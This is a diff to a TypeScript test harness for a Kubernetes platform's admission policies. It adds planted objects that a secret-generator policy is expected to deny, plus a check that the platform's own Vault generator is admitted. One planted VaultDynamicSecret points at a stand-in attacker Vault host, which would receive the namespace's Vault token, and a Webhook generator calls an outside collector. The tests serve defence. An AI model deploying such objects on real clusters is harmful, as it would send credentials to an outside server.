@@ -43,6 +43,8 @@ import { loadFleetFromDirectory } from '../src/config';
 import { stackName } from '../src/stacks/common';
 import type { CloudProvider } from '../src/constructs/contract';
 import { CSI_SNAPSHOT_DRIVERS, VOLUME_SNAPSHOT_CLASS } from '../src/constructs/baseline/velero';
+import { VAULT_SECRET_STORE } from '../src/constructs/baseline/external-secrets';
+import { DATABASE_CREDENTIALS_ROLE, DATABASE_SECRETS_MOUNT } from '../src/constructs/vault/database-secrets';
 import { isObject, readBaselineStack, type BaselineStack, type Json, type JsonObject, type StackRelease } from './lib/baseline-stack';
 import {
   aggregatedClusterRoles,
@@ -644,11 +646,39 @@ function plantedViolations(image: string): Planted[] {
       object: plantedSecret('planted-hand-made-secret'),
     },
     {
+      name: "VaultDynamicSecret pointed at a Vault outside the cluster (the namespace's Vault token would go there)",
+      policy: 'restrict-secret-generators',
+      object: vaultDynamicSecret('planted-external-vault', 'https://vault.attacker.example.com:8200'),
+    },
+    {
+      name: 'Webhook secret generator',
+      policy: 'restrict-secret-generators',
+      object: { apiVersion: 'generators.external-secrets.io/v1alpha1', kind: 'Webhook', metadata: { name: 'planted-webhook', namespace: WORKLOAD_NAMESPACE }, spec: { url: 'https://collector.example.com/in', result: { jsonPath: '$.token' } } },
+    },
+    {
       name: 'PeerAuthentication without STRICT in a restricted namespace',
       policy: 'restrict-peer-authentication-mtls',
       object: { apiVersion: 'security.istio.io/v1', kind: 'PeerAuthentication', metadata: { name: 'planted-unset', namespace: WORKLOAD_NAMESPACE }, spec: { mtls: { mode: 'UNSET' } } },
     },
   ];
+}
+
+/** A VaultDynamicSecret of the workload namespace for its database credentials, as docs/secrets.md shows, at `server`. */
+function vaultDynamicSecret(name: string, server: string): JsonObject {
+  return {
+    apiVersion: 'generators.external-secrets.io/v1alpha1',
+    kind: 'VaultDynamicSecret',
+    metadata: { name, namespace: WORKLOAD_NAMESPACE },
+    spec: {
+      path: `${DATABASE_SECRETS_MOUNT}/creds/${WORKLOAD_NAMESPACE}_orders`,
+      method: 'GET',
+      provider: {
+        server,
+        caProvider: { type: 'ConfigMap', name: 'vault-ca', key: 'ca.crt' },
+        auth: { kubernetes: { mountPath: VAULT_SECRET_STORE.authMount, role: DATABASE_CREDENTIALS_ROLE, serviceAccountRef: { name: VAULT_SECRET_STORE.serviceAccount, audiences: [VAULT_SECRET_STORE.audience] } } },
+      },
+    },
+  };
 }
 
 function plantedSecret(name: string): JsonObject {
@@ -768,6 +798,9 @@ async function generatedAuthorizationPolicy(ctx: StackContext): Promise<void> {
     spec: { rules: [{ from: [{ source: { principals: ['cluster.local/ns/checkout/sa/checkout-web'] } }] }] },
   });
   if (callers !== '') fail(ctx, 'AuthorizationPolicy naming its callers', `denied: ${callers}`);
+  // The platform's VaultDynamicSecret shape is admitted (restrict-secret-generators denies the planted variants).
+  const generator = await ctx.cluster.dryRun(vaultDynamicSecret('orders-db-creds', VAULT_SECRET_STORE.server));
+  if (generator !== '') fail(ctx, "VaultDynamicSecret for the platform's Vault", `denied: ${generator}`);
 }
 
 /** The CRDs .ci/tools.sh fetched into the tools cache (crds/<group>/*.yaml): what every cloud's cluster has before the platform. */
